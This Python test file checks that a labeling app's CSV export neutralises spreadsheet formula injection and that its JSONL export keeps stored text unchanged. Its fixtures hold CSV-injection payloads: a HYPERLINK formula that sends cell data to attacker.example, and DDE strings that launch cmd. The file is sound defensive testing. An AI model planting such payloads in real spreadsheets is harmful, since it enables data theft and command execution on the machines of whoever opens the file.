"""CSV export: no cell a spreadsheet would run as a formula (OWASP's rule); JSONL unchanged."""

import csv
import io

import orjson
import pytest

from core.spreadsheet import FORMULA_STARTS
from labeling.choices import AnnotationSource, Role
from labeling.models import Item
from tests.factories import AnnotationFactory, ItemFactory, ProjectFactory, UserFactory

pytestmark = pytest.mark.django_db

# One attack per character a spreadsheet reads as the start of a formula.
FORMULAS = {
    "equals": '=HYPERLINK("http://attacker.example/?d="&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}


@pytest.fixture
def client(api, make_member, project):
    return api.as_user(make_member(Role.ML_ENGINEER))


def export(client, project, fmt: str) -> bytes:
    response = client.get(f"/api/v1/projects/{project.pk}/export/", {"format": fmt})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_rows(body: bytes) -> dict[str, dict]:
    rows = csv.DictReader(io.StringIO(body.decode("utf-8"), newline=""))
    return {row["external_id"].lstrip("'"): row for row in rows}


@pytest.mark.parametrize("name", sorted(FORMULAS))
def test_csv_export_escapes_a_text_that_starts_a_formula(client, project, name):
    formula = FORMULAS[name]
    ItemFactory(project=project, external_id=name, text=formula)

    body = export(client, project, "csv")

    cell = csv_rows(body)[name]["text"]
    assert cell == "'" + formula
    # What was stored is untouched: escaping happens only in the CSV file.
    assert Item.objects.get(project=project, external_id=name).text == formula


def test_csv_export_escapes_formulas_in_external_ids_labels_and_metadata(api, make_member):
    project = ProjectFactory(label_classes=["=cmd|' /C calc'!A0", "ok"])
    client = api.as_user(make_member(Role.ML_ENGINEER, proj=project))
    item = ItemFactory(
        project=project, external_id="@evil", text="plain", metadata={"source": "=1+1"}
    )
    AnnotationFactory(
        item=item, labels=["=cmd|' /C calc'!A0"], source=AnnotationSource.HUMAN,
        annotator=UserFactory(),
    )  # fmt: skip

    row = csv_rows(export(client, project, "csv"))["@evil"]

    assert row["external_id"] == "'@evil"
    assert row["labels"] == "'=cmd|' /C calc'!A0"
    # The metadata cell is a JSON object: it starts with "{", which no spreadsheet runs.
    assert orjson.loads(row["metadata"]) == {"source": "=1+1"}


def test_no_csv_cell_starts_a_formula_whatever_the_items_hold(client, project):
    for name, formula in FORMULAS.items():
        ItemFactory(project=project, external_id=formula, text=formula + name)

    rows = list(csv.reader(io.StringIO(export(client, project, "csv").decode(), newline="")))

    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == 1 + len(FORMULAS)
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []


def test_csv_export_quotes_negative_numbers_and_leaves_ordinary_text_alone(client, project):
    """As the README documents: every text cell starting with "-" gets the quote (a
    spreadsheet shows '-5 as the text -5); text starting otherwise is written as it is."""
    cases = {
        "negative": "-5",
        "dash-bullet": "- first point",
        "ordinary": "Win a prize = claim now",
        "leading-space": " =1+1",
        "quote": "'already quoted",
        "number": "42",
    }
    for external_id, text in cases.items():
        ItemFactory(project=project, external_id=external_id, text=text)

    rows = csv_rows(export(client, project, "csv"))

    assert {key: rows[key]["text"] for key in cases} == {
        "negative": "'-5",
        "dash-bullet": "'- first point",
        "ordinary": "Win a prize = claim now",
        "leading-space": " =1+1",
        "quote": "'already quoted",
        "number": "42",
    }


def test_jsonl_export_keeps_formula_texts_as_they_are(client, project):
    for name, formula in FORMULAS.items():
        ItemFactory(project=project, external_id=name, text=formula)

    lines = [orjson.loads(line) for line in export(client, project, "jsonl").splitlines()]

    assert {line["external_id"]: line["text"] for line in lines} == FORMULAS
